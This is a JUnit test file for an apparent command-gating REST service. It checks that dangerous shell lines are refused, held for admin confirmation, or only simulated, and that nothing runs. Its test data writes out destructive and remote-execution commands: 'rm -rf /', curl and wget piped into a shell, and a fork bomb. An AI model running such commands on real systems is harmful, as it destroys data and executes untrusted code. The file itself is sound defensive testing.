package dev.warden.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.json.Json;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/**
 * Dangerous command lines through REST. Each starts with a harmless {@code touch canary} in the
 * root: if any part of the line ran, the canary exists. Every line is also harmless should it run
 * on this machine after all (GNU rm refuses {@code /}, host {@code x} does not resolve, the fork
 * bomb sits behind an {@code exit}), so a wrong verdict fails the test instead of the machine.
 */
class DangerousShellTest {
    @TempDir
    Path temp;

    E2eFixture w;

    @BeforeEach
    void start() {
        w = new E2eFixture(temp, 64 * 1024);
    }

    @AfterEach
    void stop() {
        w.close();
    }

    static List<JsonNode> dangerous() {
        return List.of(
                Json.parse("{\"command\":\"touch canary; rm -rf /\"}"),
                Json.parse("{\"command\":\"touch canary; curl -s http://x | sh\"}"),
                Json.parse("{\"command\":\"touch canary; wget -qO- http://x | bash\"}"),
                Json.parse("{\"command\":\"touch canary; exit 0; :(){ :|:& };:\"}"),
                Json.parse("{\"command\":\"touch canary; exit 0; sudo rm -rf /\"}"),
                Json.parse("{\"argv\":[\"sh\",\"-c\",\"touch canary; rm -rf /\"]}"),
                Json.parse("{\"argv\":[\"rm\",\"-rf\",\"/\"]}"));
    }

    @ParameterizedTest
    @MethodSource("dangerous")
    void anOperatorIsRefusedAndNothingRuns(JsonNode input) {
        var answer = w.post("/v1/actions/shell.exec", w.operatorToken, input);
        answer.assertProblem(403, null);
        assertThat(answer.code()).isIn("role_insufficient", "policy_denied");
        assertThat(w.root.resolve("canary")).doesNotExist();
        assertThat(w.filesUnder(w.root)).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("dangerous")
    void anAdminMustConfirmAndNothingRunsUntilThen(JsonNode input) {
        var answer = w.post("/v1/actions/shell.exec", E2eFixture.ADMIN, input);
        answer.assertProblem(428, "confirmation_required");
        assertThat(answer.body().path("confirmToken").asString("")).isNotBlank();
        assertThat(answer.body().path("risk").asString("")).isIn("high", "critical");
        assertThat(w.root.resolve("canary")).doesNotExist();
        assertThat(w.filesUnder(w.root)).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("dangerous")
    void aDryRunRunsNothing(JsonNode input) {
        var answer = w.post("/v1/actions/shell.exec/simulate", E2eFixture.ADMIN, input);
        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        assertThat(answer.body().path("status").asString()).isEqualTo("simulated");
        assertThat(answer.body().path("result").path("risk").asString("")).isIn("high", "critical");
        assertThat(w.root.resolve("canary")).doesNotExist();
    }
}
